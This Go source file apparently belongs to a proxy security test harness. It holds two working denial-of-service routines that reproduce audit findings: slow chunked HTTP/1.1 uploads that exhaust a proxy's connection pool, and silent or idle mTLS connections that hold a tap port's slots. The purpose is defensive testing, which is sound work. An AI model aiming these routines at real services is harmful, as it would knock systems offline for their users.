package main

import (
	"context"
	"crypto/tls"
	"fmt"
	"io"
	"sync"
	"sync/atomic"
	"time"
)

// The attackers that are not HTTP/2 frame floods: slow HTTP/1.1 uploads
// and connections that hold the tap listener's slots.

// poolTrickleAttack (finding 4): uploads chunked HTTP/1.1 uploads through
// the client proxy to the application behind the server proxy, each
// sending a one-byte chunk every 2 s, so that each holds a connection of
// the client proxy's HTTP/1.1 pool to that peer. An upload the proxy ends
// is started again.
func poolTrickleAttack(uploads int) func(ctx context.Context, e *attackEnv, lim attackLimits) string {
	return func(ctx context.Context, e *attackEnv, _ attackLimits) string {
		var started, chunks, answered atomic.Int64
		var wg sync.WaitGroup
		head := "POST /attack/upload HTTP/1.1\r\nHost: " + e.webAuthority() + "\r\nTransfer-Encoding: chunked\r\nContent-Type: application/octet-stream\r\n\r\n"
		for range uploads {
			wg.Go(func() {
				for ctx.Err() == nil && started.Load() < maxAttackConns {
					c, err := e.attackerDialer().DialContext(ctx, "tcp", addr(e.cH1))
					if err != nil {
						if sleepCtx(ctx, 100*time.Millisecond) != nil {
							return
						}
						continue
					}
					started.Add(1)
					// A reader notices an answer (the proxy gave up on the
					// upload) and ends this one.
					gone := make(chan struct{})
					go func() {
						defer close(gone)
						var b [512]byte
						if n, _ := c.Read(b[:]); n > 0 {
							answered.Add(1)
						}
					}()
					_, err = io.WriteString(c, head)
					for err == nil {
						_, err = io.WriteString(c, "1\r\nx\r\n")
						if err == nil {
							chunks.Add(1)
						}
						select {
						case <-ctx.Done():
							err = ctx.Err()
						case <-gone:
							err = errStopped
						case <-time.After(2 * time.Second):
						}
					}
					_ = c.SetWriteDeadline(time.Now().Add(time.Second))
					_, _ = io.WriteString(c, "0\r\n\r\n")
					c.Close()
					<-gone
				}
			})
		}
		wg.Wait()
		return fmt.Sprintf("uploads started %d (%d at once), chunks sent %d, uploads answered by the proxy before their end %d",
			started.Load(), uploads, chunks.Load(), answered.Load())
	}
}

// tapSlotsAttack (finding 5): silent TCP connections and idle TLS
// connections (the attacker's mesh certificate, not a tapper's) to the
// server proxy's tap port, each opened again as soon as the proxy closes
// it.
func tapSlotsAttack(silent, idleTLS int) func(ctx context.Context, e *attackEnv, lim attackLimits) string {
	return func(ctx context.Context, e *attackEnv, _ attackLimits) string {
		var dials, handshakes atomic.Int64
		var wg sync.WaitGroup
		hold := func(withTLS bool) {
			for ctx.Err() == nil && dials.Load() < 20*maxAttackConns {
				c, err := e.attackerDialer().DialContext(ctx, "tcp", addr(e.sTap))
				if err != nil {
					if sleepCtx(ctx, 100*time.Millisecond) != nil {
						return
					}
					continue
				}
				dials.Add(1)
				stop := context.AfterFunc(ctx, func() { c.Close() })
				if withTLS {
					tc := tls.Client(c, e.meshTLS("attacker", "h2"))
					if tc.HandshakeContext(ctx) == nil {
						handshakes.Add(1)
						c = tc
					}
				}
				// Silent: wait for the proxy to close the connection.
				var b [256]byte
				for {
					if _, err := c.Read(b[:]); err != nil {
						break
					}
				}
				stop()
				c.Close()
			}
		}
		for range silent {
			wg.Go(func() { hold(false) })
		}
		for range idleTLS {
			wg.Go(func() { hold(true) })
		}
		wg.Wait()
		return fmt.Sprintf("connections opened %d (%d silent TCP + %d idle mTLS held at once), TLS handshakes completed %d",
			dials.Load(), silent, idleTLS, handshakes.Load())
	}
}
